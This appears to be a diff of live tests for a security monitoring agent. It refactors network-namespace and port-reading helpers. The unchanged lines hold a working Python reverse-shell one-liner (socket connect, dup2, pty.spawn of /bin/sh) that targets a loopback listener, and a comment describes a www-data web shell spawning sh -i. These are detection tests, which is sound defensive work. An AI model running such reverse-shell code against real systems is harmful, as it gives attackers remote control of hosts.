@@ -15,20 +15,11 @@ import { copyFileSync, mkdtempSync, rmSync } from 'node:fs';
 import { join } from 'node:path';
 import { getField } from '../../../agent/ecs/document.js';
 import type { RunningAgent } from '../../helpers/agent-process.js';
-import { alertOf, checkAlert, run, startWith } from './live-helpers.js';
+import { alertOf, checkAlert, netns, printedPort, run, startWith } from './live-helpers.js';
 
 const root = process.getuid?.() === 0;
 /** www-data on Debian; any uid from 1 to 999 is a service account to the rules. */
 const SERVICE_UID = '33';
-
-/** A private network namespace with loopback up, removed after the test. */
-function netns(t: TestContext, name: string): string {
-  const ns = `${name}-${process.pid}`;
-  execFileSync('ip', ['netns', 'add', ns]);
-  t.after(() => { try { execFileSync('ip', ['netns', 'del', ns]); } catch { /* gone */ } });
-  execFileSync('ip', ['netns', 'exec', ns, 'ip', 'link', 'set', 'lo', 'up']);
-  return ns;
-}
 
 async function serviceAccounts(t: TestContext, agent: RunningAgent): Promise<void> {
   // A web shell upgrading to an interactive shell: www-data runs sh -i (fed two commands on stdin).
@@ -98,10 +89,7 @@ async function interpreterReverseShell(t: TestContext, agent: RunningAgent): Pro
   const listener = spawn('ip', ['netns', 'exec', ns, 'python3', '-c',
     'import socket\ns=socket.socket()\ns.bind(("127.0.0.1",0))\ns.listen(1)\nprint(s.getsockname()[1],flush=True)\nc,_=s.accept()\nc.sendall(b"sleep 1\\nexit\\n")\nwhile c.recv(4096): pass'], { stdio: ['ignore', 'pipe', 'inherit'] });
   t.after(() => { listener.kill('SIGKILL'); });
-  const port = await new Promise<number>((resolve, reject) => {
-    listener.stdout.once('data', (b: Buffer) => { resolve(Number(b.toString().trim())); });
-    listener.once('exit', (code) => { reject(new Error(`listener exited (${String(code)})`)); });
-  });
+  const port = await printedPort(listener, 'listener');
   const code = `import socket,os,pty;s=socket.socket();s.connect(("127.0.0.1",${port}));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")`;
   // Handed over in the environment: the namespace wrapper's own command line carries no code.
   const py = await run('ip', ['netns', 'exec', ns, 'sh', '-c', 'exec python3 -c "$PW_CODE"'], { PW_CODE: code });
